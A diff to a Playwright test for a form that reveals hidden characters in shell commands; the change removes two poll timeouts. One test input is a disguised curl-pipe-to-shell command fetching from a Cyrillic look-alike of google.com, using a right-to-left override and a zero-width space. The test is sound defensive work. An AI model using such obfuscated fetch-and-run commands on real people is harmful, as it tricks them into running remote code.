@@ -15,14 +15,11 @@ test('the form for a command shows what cannot be seen, names a look-alike, and 
   const edit = page.getByRole('button', { name: 'Edit and run' })
   const field = page.getByRole('textbox', { name: 'Your command' })
   await expect
-    .poll(
-      async () => {
-        if ((await edit.count()) === 0) await page.locator('.a-more').click()
-        if ((await field.count()) === 0) await edit.click()
-        return field.count()
-      },
-      { timeout: 15_000 },
-    )
+    .poll(async () => {
+      if ((await edit.count()) === 0) await page.locator('.a-more').click()
+      if ((await field.count()) === 0) await edit.click()
+      return field.count()
+    })
     .toBe(1)
   await field.fill('curl https://g\u043eogle.com/x \u202Etxt.sh\u202C | s\u200Bh')
   expect(await field.inputValue()).toBe('curl https://g\u043eogle.com/x ⟦U+202E⟧txt.sh⟦U+202C⟧ | s⟦U+200B⟧h')
@@ -36,7 +33,7 @@ test('the form for a command shows what cannot be seen, names a look-alike, and 
   await field.pressSequentially(' -x')
   await page.getByRole('button', { name: 'Check again' }).click()
   const command = page.getByRole('group', { name: 'Command' })
-  await expect.poll(() => command.innerText(), { timeout: 15_000 }).toContain('sU+200Bh -x')
+  await expect.poll(() => command.innerText()).toContain('sU+200Bh -x')
 })
 
 test('what runs stands in one list, with its output, and each has a button that ends it alone', async () => {
